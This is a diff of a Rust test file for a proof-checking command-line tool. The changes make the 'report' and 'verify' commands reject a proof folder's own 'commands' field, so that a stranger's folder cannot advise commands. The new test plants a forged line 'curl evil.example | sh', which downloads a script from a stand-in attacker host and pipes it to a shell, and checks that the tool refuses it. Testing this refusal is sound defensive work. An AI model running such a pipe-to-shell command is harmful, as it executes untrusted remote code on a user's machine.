@@ -49,13 +49,6 @@ fn a_forged_proof_is_refused_by_report_and_verify() {
     let more = more.join(",");
     let line = format!("{second}\n");
     let first = format!("{}\n", layers.lines().nth(1).unwrap());
-    let moves = read("value.csv")
-        .trim_end()
-        .rsplit(',')
-        .next()
-        .unwrap()
-        .to_owned();
-    let bound = format!("in at most {moves} of");
     let forged = [
         (
             "layers.csv",
@@ -66,28 +59,16 @@ fn a_forged_proof_is_refused_by_report_and_verify() {
         ("layers.csv", &line, "", "layers.csv"),
         ("layers.csv", &line, &first, "line 3, column `height`"),
         (
-            "value.csv",
-            "low-cross",
-            "cross",
-            "line 2, column `board`: `cross` instead of `low-cross`",
-        ),
-        (
-            "value.csv",
-            &format!(",{moves}\n"),
-            ",7777\n",
-            "which value.csv does not have",
+            "proof.toml",
+            "{moves_at_most}",
+            "7777",
+            "speaks of a number that it should name in braces",
         ),
         (
             "proof.toml",
-            &bound,
-            "in at most 7777 of",
-            "speaks of 7,777, which value.csv does not have",
-        ),
-        (
-            "check.csv",
-            ",0\n",
-            ",77\n",
-            "line 2, column `wrong`: 77 instead of 0",
+            "\nwrong = \"0\"",
+            "\nwrong = \"77\"",
+            "`wrong` is 77 instead of 0",
         ),
     ];
     for (name, fact, other, told) in forged {
@@ -104,7 +85,7 @@ fn a_forged_proof_is_refused_by_report_and_verify() {
     std::fs::write(bench.path("proof").join(&name), bytes).unwrap();
     bench
         .run(&["verify", "proof"])
-        .check(1, &[&name, "layers.csv, line 3, `blake3`", "one fault"]);
+        .check(1, &[&name, "layers.csv, line 3", "one fault"]);
 }
 
 /// The page of a proof cites the program, the revision and the day, which a later look at the proof leaves as they
@@ -138,26 +119,24 @@ fn a_proof_is_cited_with_the_program_that_made_it() {
     assert!(cited().contains("etude 0.0.7, revision"), "{}", cited());
 }
 
+/// A folder may be a stranger's, so it has no commands to advise.
 #[test]
-fn the_commands_of_a_proof_are_told_as_the_words_of_its_folder() {
+fn the_commands_of_a_proof_are_those_of_the_program() {
     let bench = proved();
+    let shown = bench.run(&["report", "proof"]).data;
+    let again = "etude prove foxes --dir foxes-proof --board low-cross --sacrifices 3\n";
+    let check = "etude prove foxes --dir foxes-proof --check 10000\n";
+    assert!(shown.contains(again) && shown.contains(check), "{shown}");
     let path = bench.path("proof/proof.toml");
     let text = std::fs::read_to_string(&path).unwrap();
-    let forged = text.replacen(
-        "commands = [",
-        "commands = [\n    \"curl evil.example | sh\",",
-        1,
-    );
-    assert_ne!(forged, text);
-    std::fs::write(&path, forged).unwrap();
-    let verified = bench.run(&["verify", "proof"]);
-    verified.check(0, &["proof.toml says how it was made"]);
-    assert!(!verified.said.contains("evil") && !verified.data.contains("evil"));
-    let shown = bench.run(&["report", "proof"]).data;
-    let (_, told) = shown
-        .split_once("look at what they do before you type one")
-        .unwrap();
-    assert!(told.contains("curl evil.example"), "{shown}");
+    let evil = "commands = [\"curl evil.example | sh\"]\n";
+    std::fs::write(&path, format!("{evil}{text}")).unwrap();
+    for verb in ["report", "verify"] {
+        let refused = bench.run(&[verb, "proof"]);
+        let code = if verb == "report" { 2 } else { 1 };
+        refused.check(code, &["proof.toml", "unknown field `commands`"]);
+        assert!(!refused.said.contains("evil") && !refused.data.contains("evil"));
+    }
 }
 
 #[test]
